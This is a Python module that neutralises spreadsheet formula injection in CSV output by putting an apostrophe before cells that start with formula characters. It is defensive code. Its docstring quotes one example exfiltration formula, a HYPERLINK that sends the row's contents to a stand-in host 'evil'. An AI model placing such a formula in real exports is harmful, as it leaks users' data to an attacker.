"""Spreadsheet-safe CSV cells: a text cell a spreadsheet would run as a formula is neutralised.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading the rest; or the full-width forms U+FF1D, U+FF0B, U+FF0D, U+FF20 that
East-Asian Excel builds read as the same) is opened by Excel, LibreOffice and Google Sheets as
a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` would leak the row. Such a cell gets a
leading ``'`` (OWASP "CSV injection"), which every one of them shows as text and hides.
Numbers are written as they are: only text is ever a formula.

    writer.writerow(safe_row(values))
    writer.writerow(safe_mapping(row))      # csv.DictWriter
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def safe_mapping(row: Mapping[str, Any]) -> dict[str, Any]:
    return {k: safe_cell(v) for k, v in row.items()}
